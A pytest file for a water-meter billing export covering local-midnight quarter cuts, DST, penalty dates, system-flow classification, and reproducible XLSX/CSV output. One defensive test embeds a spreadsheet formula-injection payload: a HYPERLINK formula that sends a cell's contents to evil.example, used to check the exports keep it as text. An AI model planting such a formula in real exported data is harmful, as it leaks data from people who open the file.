"""The export's periods (local midnight, DST), bill dates, the system flow for the 5 %
prong, and the XLSX workbook read back with openpyxl and compared with the CSV."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import shutil
import subprocess
import time
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone, tzinfo
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import yaml
from openpyxl import load_workbook

from monitor.config import build_config
from monitor.errors import ConfigError, MeterError
from monitor.meters.billing import columns, export_rows, quarter
from monitor.meters.book import MeterBook
from monitor.meters.periods import presentation
from monitor.meters.xlsx import write_xlsx
from monitor.model import Sample, iso, parse_time
from tests import cli

ROOT = Path(__file__).resolve().parent.parent
CASE = ROOT / "tests" / "cases" / "billing" / "new-york"
NY = ZoneInfo("America/New_York")


def monitor_cli(*args: str) -> subprocess.CompletedProcess[str]:
    """`monitor *args` from the repository root, in this process (tests/cli.py)."""
    return cli.run_monitor(*args, cwd=ROOT)


@pytest.mark.parametrize(
    ("text", "start", "end", "days"),
    [
        ("2025Q4", "2025-10-01T04:00:00Z", "2026-01-01T05:00:00Z", 92),  # EDT -> EST: 2,209 hours
        ("2026Q1", "2026-01-01T05:00:00Z", "2026-04-01T04:00:00Z", 90),  # EST -> EDT: 2,159 hours
        ("2026Q3", "2026-07-01T04:00:00Z", "2026-10-01T04:00:00Z", 92),
    ],
)
def test_quarters_are_cut_at_local_midnight(text: str, start: str, end: str, days: int) -> None:
    q = quarter(text, 1, NY)
    assert (iso(q.start.timestamp()), iso(q.end.timestamp()), q.days) == (start, end, days)
    assert q.first_day.day == 1 and q.last_day.month in (3, 6, 9, 12)


def test_a_reading_at_9pm_on_30_september_in_new_york_is_in_the_third_quarter(tmp_path: Path) -> None:
    raw = {
        "station": {"id": "ps-1", "timezone": "America/New_York"},
        "state_dir": str(tmp_path / "state"),
        "sensors": [{"id": "m", "kind": "meter", "unit": "ft3", "register_digits": 8, "account": "a"}],
        "billing": {"rate_per_kcf": "1", "accounts": [{"id": "a", "class": "commercial"}]},
    }
    config = build_config(raw)
    book = MeterBook.open(config)
    try:
        book.ingest(
            [
                Sample("m", parse_time("2026-09-30T20:00:00-04:00"), 0.0),
                Sample("m", parse_time("2026-09-30T21:00:00-04:00"), 100.0),  # 01:00Z on 1 October
                Sample("m", parse_time("2026-10-01T01:00:00-04:00"), 107.0),
            ]
        )
        q3, q4 = (quarter(f"2026Q{n}", 1, config.station.zone) for n in (3, 4))
        assert export_rows(config, book.ledger, q3)[0]["consumption_ft3"] == "100.000"
        assert export_rows(config, book.ledger, q4)[0]["consumption_ft3"] == "7.000"
        utc = quarter("2026Q3")  # the old UTC cut would have put the 9 pm reading in Q4
        assert export_rows(config, book.ledger, utc)[0]["consumption_ft3"] == "0.000"
    finally:
        book.close()


def test_presentation_dates_follow_139_4() -> None:
    q = quarter("2025Q4", 1, NY)
    bill = presentation("2026-01-10", q)
    # Paid on or before day 30 (9 February): no penalty; 2 % from day 31, 10 % more from day 61.
    assert (bill.penalty_from_30, bill.penalty_from_60) == (date(2026, 2, 10), date(2026, 3, 12))
    for bad in ("2026-1-10", "10/01/2026", "2026-02-30", ""):
        with pytest.raises(MeterError, match="like 2026-10-05"):
            presentation(bad, q)
    with pytest.raises(MeterError, match="before 2025Q4 has ended"):
        presentation("2025-12-31", q)


def system_meter_config(tmp_path: Path, **billing: Any) -> dict[str, Any]:
    return {
        "station": {"id": "ps-1"},
        "state_dir": str(tmp_path / "state"),
        "sensors": [
            {"id": "plant.influent", "kind": "meter", "unit": "gal", "register_digits": 9},
            {"id": "m", "kind": "meter", "unit": "gal", "register_digits": 9, "account": "a"},
        ],
        "billing": {
            "rate_per_kcf": "1",
            "accounts": [{"id": "a", "class": "industrial", "sic_division": "D", "workdays_per_week": 7}],
            **billing,
        },
    }


def test_the_5_percent_prong_against_a_plant_influent_meter(tmp_path: Path) -> None:
    config = build_config(system_meter_config(tmp_path, system_meter="plant.influent"))
    book = MeterBook.open(config)
    try:
        t0, t1 = parse_time("2026-07-01T00:00:00Z"), parse_time("2026-10-01T00:00:00Z")
        # 30,000 gpd for 92 days (not 50,000 per workday) against a system of 500,000 gpd: 6 %.
        # Two readings 92 days apart: the system figure is estimated, and the reason says so.
        book.ingest([Sample("m", t0, 0.0), Sample("m", t1, 30_000 * 92.0)])
        book.ingest([Sample("plant.influent", t0, 0.0), Sample("plant.influent", t1, 500_000 * 92.0)])
        (row,) = export_rows(config, book.ledger, quarter("2026Q3"))  # the plant meter is not billed
        assert row["classification"] == "major contributing industry"
        reason = row["classification_reason"]
        assert "§139-15: 6.00 % of system meter plant.influent (estimated) > 5 %" in reason
    finally:
        book.close()


def test_system_flow_config_is_checked(tmp_path: Path) -> None:
    both = system_meter_config(tmp_path, system_meter="plant.influent", system_flow_gpd=1)
    with pytest.raises(ConfigError, match=r"billing.system_meter: set system_flow_gpd or system_meter"):
        build_config(both)
    with pytest.raises(ConfigError, match=r"billing.system_meter: 'nope' is not a sensor of kind: meter"):
        build_config(system_meter_config(tmp_path, system_meter="nope"))
    with pytest.raises(ConfigError, match=r"sensors\[0\].account: required"):
        build_config(system_meter_config(tmp_path))  # without system_meter it is a meter to bill
    path = tmp_path / "bad.yaml"
    raw = system_meter_config(tmp_path, system_flow_gpd=-5)
    raw["billing"]["accounts"][0]["sic_division"] = "Z"
    path.write_text(yaml.safe_dump(raw), encoding="utf-8")
    got = monitor_cli("check-config", str(path))
    assert got.returncode == 2
    assert "billing.system_flow_gpd" in got.stderr and "billing.accounts[0].sic_division" in got.stderr


@pytest.fixture(scope="module")
def new_york(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The new-york golden case's ledger, with its amendments applied through the CLI."""
    from tests.test_billing_golden import amendments

    tmp = tmp_path_factory.mktemp("new-york")
    shutil.copy(CASE / "config.yaml", tmp / "config.yaml")
    config = tmp / "config.yaml"
    got = monitor_cli("meters", "ingest", "--config", str(config), "--input", str(CASE / "readings.csv"))
    assert got.returncode == 0, got.stderr
    for args in amendments("new-york"):
        got = monitor_cli("meters", *args, "--config", str(config))
        assert got.returncode == 0, got.stderr
    return config


def test_xlsx_has_the_csvs_figures_typed_one_sheet_per_quarter(new_york: Path, tmp_path: Path) -> None:
    quarters = ("--quarter", "2025Q3", "--quarter", "2025Q4")
    out_csv, out_xlsx = tmp_path / "q.csv", tmp_path / "q.xlsx"
    got = monitor_cli("billing", "export", "--config", str(new_york), *quarters, "--out", str(out_csv))
    assert got.returncode == 0, got.stderr
    got = monitor_cli(
        "billing", "export", "--config", str(new_york), *quarters, "--out", str(out_xlsx), "--format", "xlsx"
    )
    assert got.returncode == 0, got.stderr
    with out_csv.open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    book = load_workbook(out_xlsx)
    assert book.sheetnames == ["2025Q3", "2025Q4"]
    for sheet in book.worksheets:
        values = [list(r) for r in sheet.iter_rows(values_only=True)]
        assert tuple(values[0]) == columns()
        expected = [
            r
            for r in rows
            if r["period_start"] == ("2025-07-01" if sheet.title == "2025Q3" else "2025-10-01")
        ]
        body, totals = values[1:-1], values[-1]
        assert len(body) == len(expected) == 4
        for got_row, want in zip(body, expected, strict=True):
            cells = dict(zip(columns(), got_row, strict=True))
            for column, text in want.items():
                assert same(cells[column], text), (sheet.title, column, cells[column], text)
        total = dict(zip(columns(), totals, strict=True))
        assert total["account"] == "total"
        for column in ("consumption_ft3", "charge", "due_after_30_days", "due_after_60_days"):
            assert Decimal(str(total[column])) == sum(Decimal(r[column]) for r in expected), column
        charge = sheet[f"{letter(columns().index('charge'))}2"]
        assert isinstance(charge.value, (int, float)) and charge.number_format == "#,##0.00"
        start = sheet[f"{letter(columns().index('period_start'))}2"]
        assert start.is_date and start.number_format == "yyyy-mm-dd"
    q4 = book["2025Q4"]
    assert Decimal(str(q4.cell(row=6, column=columns().index("charge") + 1).value)).quantize(
        Decimal("0.01")
    ) == Decimal("1877.65") + Decimal("2133.55") + Decimal("187.77") + Decimal("753.02")


def letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)


def same(cell: object, text: str) -> bool:
    """An XLSX cell equals the CSV's text: numbers to the CSV's places, dates as dates."""
    if text == "":
        return cell is None
    if isinstance(cell, bool):
        return str(cell).lower() == text
    if isinstance(cell, (int, float)):
        want = Decimal(text)
        return Decimal(repr(cell)).quantize(want) == want
    if isinstance(cell, datetime):
        if text.endswith("Z"):
            return cell.isoformat() + "Z" == text
        return cell.date().isoformat() == text
    return cell == text


def test_xlsx_needs_a_file(new_york: Path) -> None:
    got = monitor_cli("billing", "export", "--config", str(new_york), "--quarter", "2025Q4", "--out", "-",
                      "--format", "xlsx")  # fmt: skip
    assert got.returncode == 1 and "an XLSX export needs --out FILE" in got.stderr
    got = monitor_cli("billing", "export", "--config", str(new_york), "--quarter", "2025Q4", "--quarter",
                      "2025Q3", "--presented", "2026-01-10", "--out", "-")  # fmt: skip
    assert got.returncode == 1 and "give one --quarter" in got.stderr


def test_the_same_figures_exported_a_day_later_are_the_same_bytes(
    new_york: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A clerk files the export with its SHA-256: the same ledger and quarters must give the
    same file whenever they are exported. openpyxl (`datetime.now`) and zipfile
    (`time.localtime`) read the clock themselves, and a real clock cannot be moved without
    sleeping, so the second export runs with the clock those two read a day and 7 s ahead
    (a stand-in for that reason alone). It stamped both into the workbook before."""
    quarters = ("--quarter", "2025Q3", "--quarter", "2025Q4")

    def export_both(tag: str) -> tuple[bytes, bytes]:
        out = []
        for fmt in ("xlsx", "csv"):
            path = tmp_path / f"{tag}.{fmt}"
            got = monitor_cli("billing", "export", "--config", str(new_york), *quarters, "--out", str(path),
                              "--format", fmt)  # fmt: skip
            assert got.returncode == 0, got.stderr
            out.append(path.read_bytes())
        return out[0], out[1]

    first = export_both("now")
    later = timedelta(days=1, seconds=7)

    class Later(datetime):
        @classmethod
        def now(cls, tz: tzinfo | None = None) -> Later:
            real = datetime.now(tz) + later
            return cls.fromtimestamp(real.timestamp(), tz)

    def localtime(secs: float | None = None) -> time.struct_time:
        return time.localtime((time.time() if secs is None else secs) + later.total_seconds())

    with monkeypatch.context() as m:
        for module in ("openpyxl.writer.excel", "openpyxl.packaging.core"):
            m.setattr(f"{module}.datetime", SimpleNamespace(datetime=Later, timezone=timezone))
        m.setattr(zipfile, "time", SimpleNamespace(time=time.time, localtime=localtime))
        second = export_both("later")
    assert hashlib.sha256(second[0]).hexdigest() == hashlib.sha256(first[0]).hexdigest()
    assert second[1] == first[1]  # the CSV never read the clock
    # The "as of" is the end of the latest quarter: 2025Q4 ends at midnight New York time.
    book = load_workbook(io.BytesIO(first[0]))
    assert book.properties.created == book.properties.modified == datetime(2026, 1, 1, 5)
    with zipfile.ZipFile(io.BytesIO(first[0])) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2026, 1, 1, 5, 0, 0)}


@pytest.mark.parametrize(
    ("as_of", "entries"),
    [
        (datetime(2150, 4, 1, tzinfo=UTC), (2107, 12, 31, 23, 59, 58)),  # 2150Q1: the zip's last date
        (datetime(1975, 4, 1, tzinfo=UTC), (1980, 1, 1, 0, 0, 0)),  # 1975Q1: the zip's first
    ],
)
def test_a_quarter_outside_the_zip_dates_keeps_its_end_in_the_workbook(
    tmp_path: Path, as_of: datetime, entries: tuple[int, ...]
) -> None:
    """A zip entry's date holds 1980 to 2107 only; a quarter past 2107 was a struct.error
    traceback. The document properties, which hold any year, keep the quarter's end."""
    path = tmp_path / "q.xlsx"
    write_xlsx([("Q1", [])], path, as_of)
    assert load_workbook(path).properties.created == as_of.replace(tzinfo=None)
    with zipfile.ZipFile(path) as archive:
        assert {info.date_time for info in archive.infolist()} == {entries}


def test_the_workbook_is_the_same_bytes_in_any_time_zone_of_the_exporting_machine(
    new_york: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The clerk's laptop and the gateway need not share a zone: the same ledger and
    quarters give the same workbook under UTC, New York, Chatham (+13:45 in its summer)
    and Lord Howe (a 30-minute DST), with 2025Q4 (EDT at its start, EST at its end) and a
    future quarter without a reading (2027Q1: each account's row flagged). zipfile
    dates its entries in local time and openpyxl reads the local clock, so an "as of"
    converted with the process's zone would differ here."""
    quarters = ("--quarter", "2025Q4", "--quarter", "2027Q1")
    digests = set()
    try:
        for zone in ("UTC", "America/New_York", "Pacific/Chatham", "Australia/Lord_Howe"):
            monkeypatch.setenv("TZ", zone)
            time.tzset()
            path = tmp_path / f"{zone.replace('/', '-')}.xlsx"
            got = monitor_cli("billing", "export", "--config", str(new_york), *quarters, "--out", str(path),
                              "--format", "xlsx")  # fmt: skip
            assert got.returncode == 0, got.stderr
            digests.add(hashlib.sha256(path.read_bytes()).hexdigest())
    finally:
        monkeypatch.undo()
        time.tzset()  # the process's own zone again, for the tests after this one
    assert len(digests) == 1
    book = load_workbook(path)
    assert book.properties.created == datetime(2027, 4, 1, 4)  # 2027Q1's end, midnight EDT, in UTC
    assert book.sheetnames == ["2025Q4", "2027Q1"]


def test_the_documented_billing_config_is_valid() -> None:
    section = (ROOT / "docs" / "billing.md").read_text(encoding="utf-8")
    block = section.split("```yaml\n", 1)[1].split("```", 1)[0]
    config = build_config({"station": {"id": "ps-1"}, **yaml.safe_load(block)})
    assert config.billing is not None and config.billing.system_flow_gpd == 1_200_000
    accounts = {a.id: a for a in config.billing.accounts}
    assert accounts["high-school"].governmental and accounts["acme-mill"].sic_division == "D"
    designation = accounts["plating"].designation
    assert designation is not None and designation.classification == "major contributing industry"


def test_text_from_the_config_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
    """An account class (free text, exported as the classification) or an id starting with
    `=`, `+`, `-` or `@` is a formula when a spreadsheet opens the CSV, and openpyxl
    writes any string starting with `=` as a formula cell: the export keeps them text."""
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"pay here")'
    raw = {
        "station": {"id": "ps-1", "timezone": "America/New_York"},
        "state_dir": str(tmp_path / "state"),
        "sensors": [
            {"id": "-A1", "kind": "meter", "unit": "ft3", "register_digits": 8, "account": "-acct"},
        ],
        "billing": {"rate_per_kcf": "1", "accounts": [{"id": "-acct", "class": hostile}]},
    }
    config_path = tmp_path / "config.yaml"
    config_path.write_text(yaml.safe_dump(raw), encoding="utf-8")
    book = MeterBook.open(build_config(raw))
    try:
        book.ingest([Sample("-A1", parse_time("2026-07-02T12:00:00Z"), 0.0),
                     Sample("-A1", parse_time("2026-08-02T12:00:00Z"), 100.0)])  # fmt: skip
    finally:
        book.close()
    out_csv, out_xlsx = tmp_path / "q.csv", tmp_path / "q.xlsx"
    for out, fmt in ((out_csv, "csv"), (out_xlsx, "xlsx")):
        got = monitor_cli("billing", "export", "--config", str(config_path), "--quarter", "2026Q3",
                          "--out", str(out), "--format", fmt)  # fmt: skip
        assert got.returncode == 0, got.stderr
    with out_csv.open(encoding="utf-8") as fh:
        [row] = list(csv.DictReader(fh))
    assert (row["account"], row["meter"], row["classification"]) == ("'-acct", "'-A1", "'" + hostile)
    assert row["consumption_ft3"] == "100.000"  # numbers are left as they are
    sheet = load_workbook(out_xlsx).worksheets[0]
    cells = {c: sheet.cell(row=2, column=i + 1) for i, c in enumerate(columns())}
    assert cells["classification"].data_type == "s" and cells["classification"].value == hostile
    assert (cells["account"].value, cells["meter"].value) == ("-acct", "-A1")
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_to_a_full_disk_says_so_and_leaves_no_half_file(
    new_york: Path, tiny_disk: Path, fmt: str
) -> None:
    """The clerk's folder on a full disk (a real tmpfs, filled): one line and exit 1, and
    nothing beside the target. The XLSX left its half-written `.tmp` behind; both go through
    `monitor.durable.replace_file` now, as the state files do."""
    with (tiny_disk / "ballast").open("wb", buffering=0) as fh, contextlib.suppress(OSError):
        while True:
            fh.write(b"\0" * 4096)
    out = tiny_disk / f"q.{fmt}"
    got = monitor_cli("billing", "export", "--config", str(new_york), "--quarter", "2025Q3",
                      "--out", str(out), "--format", fmt)  # fmt: skip
    assert got.returncode == 1, got.stderr
    assert f"cannot write {out}" in got.stderr and "Traceback" not in got.stderr
    assert sorted(p.name for p in tiny_disk.iterdir()) == ["ballast"]
